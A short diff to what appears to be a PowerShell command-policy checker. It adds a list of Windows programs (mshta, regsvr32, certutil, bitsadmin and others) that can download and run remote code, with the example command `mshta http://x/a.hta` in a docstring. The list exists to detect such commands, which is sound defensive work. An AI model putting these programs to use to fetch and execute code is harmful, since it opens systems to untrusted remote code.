@@ -115,6 +115,9 @@ NO_FILE_ARGUMENTS = frozenset({
 })  # fmt: skip
 """Cmdlets whose words are never files, so they give policies no paths (`Write-Output .env` reads nothing)."""
 DOWNLOADERS = frozenset({"invoke-webrequest", "invoke-restmethod", "start-bitstransfer", "curl", "wget"})
+REMOTE_CODE_RUNNERS = frozenset({"mshta", "regsvr32", "msiexec", "rundll32", "cscript", "wscript", "certutil",
+                                 "bitsadmin", "installutil", "msbuild", "regasm", "regsvcs", "odbcconf"})  # fmt: skip
+"""Windows programs that fetch and run code given a URL (or a `javascript:` one): `mshta http://x/a.hta`."""
 DOWNLOAD_OUTPUTS = frozenset({"outfile", "destination", "o", "output", "output-document"})
 """The options naming the file a download is written to (`-OutFile`, curl's `-o`/`--output`, wget's `-O`)."""
 
